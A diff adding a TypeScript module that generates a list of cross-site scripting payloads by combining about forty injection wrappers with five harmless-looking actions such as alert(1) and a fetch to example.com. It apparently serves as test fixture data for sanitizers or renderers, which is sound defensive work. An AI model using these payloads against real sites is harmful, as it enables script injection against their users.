@@ -1,0 +1,56 @@
+/** Ways of getting a script to run that go from one context of a page to another. */
+const shells = [
+  '<script>$</script>',
+  '"><script>$</script>',
+  "'><script>$</script>",
+  '</textarea><script>$</script>',
+  '</title><script>$</script>',
+  '</style><script>$</script>',
+  '<img src=x onerror="$">',
+  '"><img src=x onerror=$>',
+  '<svg onload="$">',
+  '<svg><script>$</script></svg>',
+  '<svg><animate onbegin="$" attributeName=x dur=1s>',
+  '<body onload="$">',
+  '<iframe srcdoc="<script>parent.$</script>">',
+  '<iframe src="javascript:$">',
+  '<a href="javascript:$">go</a>',
+  '[go](javascript:$)',
+  '<details open ontoggle="$">',
+  '<video><source onerror="$">',
+  '<input autofocus onfocus="$">',
+  '<math><mtext><table><mglyph><style><img src=x onerror="$">',
+  '<template><script>$</script></template>',
+  '<object data="javascript:$">',
+  '<embed src="javascript:$">',
+  '<form action="javascript:$"><button>go</button></form>',
+  '<link rel="stylesheet" href="data:text/css,*{}" onload="$">',
+  '<style>@import "javascript:$";</style>',
+  '<base href="javascript:$//">',
+  '<meta http-equiv="refresh" content="0;url=javascript:$">',
+  '{{constructor.constructor("$")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run
+  '${$}',
+  '<%= $ %>',
+  '#{$}',
+  'javascript:$',
+  'data:text/html,<script>$</script>',
+  '\u202e<script>$</script>',
+  '<scr\u0131pt>$</scr\u0131pt>',
+  '<ſcript>$</ſcript>',
+  '&lt;script&gt;$&lt;/script&gt;',
+  '\\u003cscript\\u003e$\\u003c/script\\u003e',
+  '__proto__"><img src=x onerror=$>',
+]
+const deeds = [
+  'alert(1)',
+  'window.name="taken"',
+  'document.title="taken"',
+  'fetch("//example.com")',
+  'document.body.innerHTML=""',
+]
+
+/** Two hundred texts that would run if a page took them for markup. */
+export const payloads: readonly string[] = shells.flatMap((shell) =>
+  deeds.map((deed) => shell.replaceAll('$', deed)),
+)
